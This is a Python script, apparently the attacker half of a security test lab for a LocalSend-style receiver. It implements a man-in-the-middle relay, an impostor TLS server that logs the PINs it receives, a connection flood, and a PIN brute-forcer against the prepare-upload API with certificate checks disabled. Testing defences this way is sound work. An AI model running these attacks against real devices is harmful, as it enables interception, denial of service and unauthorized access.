#!/usr/bin/env python3
"""The attacker in the lab (attack-lab.sh): a host on the same network as a nearby receiver and
its senders, doing what such a host can. Standard library only; every address it is given is a
lab address.

  attacker.py relay LISTEN_PORT REAL_HOST REAL_PORT IMPOSTOR_PORT
      A device in the middle: listens on LISTEN_PORT (every address), relays the first
      connection to REAL_HOST:REAL_PORT byte for byte and every later one to its own impostor on
      127.0.0.1:IMPOSTOR_PORT.
  attacker.py impostor PORT CERT KEY LOG
      The impostor: a TLS server with a certificate of its own that answers every request 200
      and counts what reaches it after a handshake (requests, body bytes, PINs seen); the
      counts are rewritten to LOG (JSON) as they change.
  attacker.py flood HOST PORT COUNT
      Opens COUNT TCP connections, at most 64 at a time, each held for up to 200 ms; prints how
      many the server closed at once (JSON).
  attacker.py guess HOST PORT COUNT RIGHT
      COUNT wrong LocalSend PINs over HTTPS (keep-alive, a new connection when the server closes
      one), then the right one; prints each status's count and the right PIN's status (JSON).
"""
import http.client
import json
import select
import socket
import ssl
import sys
import threading
import time


def pump(src, dst):
    try:
        while True:
            data = src.recv(65536)
            if not data:
                break
            dst.sendall(data)
    except OSError:
        pass
    for s, how in ((dst, socket.SHUT_WR), (src, socket.SHUT_RD)):
        try:
            s.shutdown(how)
        except OSError:
            pass


def relay(listen_port, real_host, real_port, impostor_port):
    server = socket.create_server(("::", int(listen_port)), family=socket.AF_INET6, dualstack_ipv6=True, reuse_port=True)
    count = 0
    while True:
        client, _ = server.accept()
        target = (real_host, int(real_port)) if count == 0 else ("127.0.0.1", int(impostor_port))
        count += 1
        try:
            upstream = socket.create_connection(target, timeout=10)
        except OSError:
            client.close()
            continue
        threading.Thread(target=pump, args=(client, upstream), daemon=True).start()
        threading.Thread(target=pump, args=(upstream, client), daemon=True).start()


def impostor(port, cert, key, log):
    counts = {"handshakes": 0, "refused_handshakes": 0, "requests": 0, "body_bytes": 0, "pins": []}
    lock = threading.Lock()

    def save():
        with open(log, "w") as f:
            json.dump(counts, f)

    save()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    server = socket.create_server(("127.0.0.1", int(port)), reuse_port=True)

    def serve(raw):
        try:
            conn = context.wrap_socket(raw, server_side=True)
        except (ssl.SSLError, OSError):
            with lock:
                counts["refused_handshakes"] += 1
                save()
            raw.close()
            return
        with lock:
            counts["handshakes"] += 1
            save()
        buffer = b""
        try:
            conn.settimeout(10)
            while True:
                data = conn.recv(65536)
                if not data:
                    break
                buffer += data
                while b"\r\n\r\n" in buffer:
                    head, _, rest = buffer.partition(b"\r\n\r\n")
                    line = head.split(b"\r\n")[0].decode("latin-1")
                    length = 0
                    for h in head.split(b"\r\n")[1:]:
                        name, _, value = h.partition(b":")
                        if name.strip().lower() == b"content-length":
                            length = int(value.strip())
                    while len(rest) < length:
                        more = conn.recv(65536)
                        if not more:
                            break
                        rest += more
                    with lock:
                        counts["requests"] += 1
                        counts["body_bytes"] += min(length, len(rest))
                        if "pin=" in line:
                            counts["pins"].append(line.split("pin=")[1].split("&")[0].split(" ")[0])
                        save()
                    buffer = rest[length:]
                    body = b'{"sessionId":"s","files":{}}'
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
        except (ssl.SSLError, OSError, ValueError):
            pass
        conn.close()

    while True:
        raw, _ = server.accept()
        threading.Thread(target=serve, args=(raw,), daemon=True).start()


def flood(host, port, count):
    closed_at_once = held = failed = 0
    count = int(count)
    done = 0
    while done < count:
        batch = []
        for _ in range(min(64, count - done)):
            try:
                batch.append(socket.create_connection((host, int(port)), timeout=5))
            except OSError:
                failed += 1
            done += 1
        deadline = time.monotonic() + 0.2
        pending = list(batch)
        while pending and time.monotonic() < deadline:
            ready, _, _ = select.select(pending, [], [], max(0, deadline - time.monotonic()))
            for s in ready:
                try:
                    data = s.recv(1)
                except OSError:
                    data = b""
                if not data:
                    closed_at_once += 1
                    pending.remove(s)
        held += len(pending)
        for s in batch:
            s.close()
    print(json.dumps({"connections": count, "closed_at_once": closed_at_once, "held": held, "failed": failed}, separators=(",", ":")))


def guess(host, port, count, right):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    body = json.dumps({"info": {"alias": "guesser", "version": "2.0", "deviceModel": None, "deviceType": "mobile",
                                "fingerprint": "guesser", "port": 53317, "protocol": "https", "download": False},
                       "files": {"f": {"id": "f", "fileName": "g.txt", "size": 1, "fileType": "text/plain"}}}).encode()
    statuses = {}
    conn = None
    connections = 0

    def ask(pin):
        nonlocal conn, connections
        for _ in range(3):
            if conn is None:
                conn = http.client.HTTPSConnection(host, int(port), context=context, timeout=10)
                connections += 1
            try:
                conn.request("POST", "/api/localsend/v2/prepare-upload?pin=%s" % pin, body=body,
                             headers={"Content-Type": "application/json"})
                reply = conn.getresponse()
                reply.read()
                if reply.getheader("Connection", "").lower() == "close":
                    conn.close()
                    conn = None
                return reply.status
            except (OSError, http.client.HTTPException):
                conn.close()
                conn = None
        return 0

    start = time.monotonic()
    for i in range(int(count)):
        wrong = "%04d" % (i % 10000)
        if wrong == right:
            wrong = "x" + wrong
        status = ask(wrong)
        statuses[str(status)] = statuses.get(str(status), 0) + 1
    right_status = ask(right)
    print(json.dumps({"guesses": int(count), "statuses": statuses, "right_pin_status": right_status,
                      "connections": connections, "seconds": round(time.monotonic() - start, 2)}, separators=(",", ":")))


if __name__ == "__main__":
    command, args = sys.argv[1], sys.argv[2:]
    {"relay": relay, "impostor": impostor, "flood": flood, "guess": guess}[command](*args)
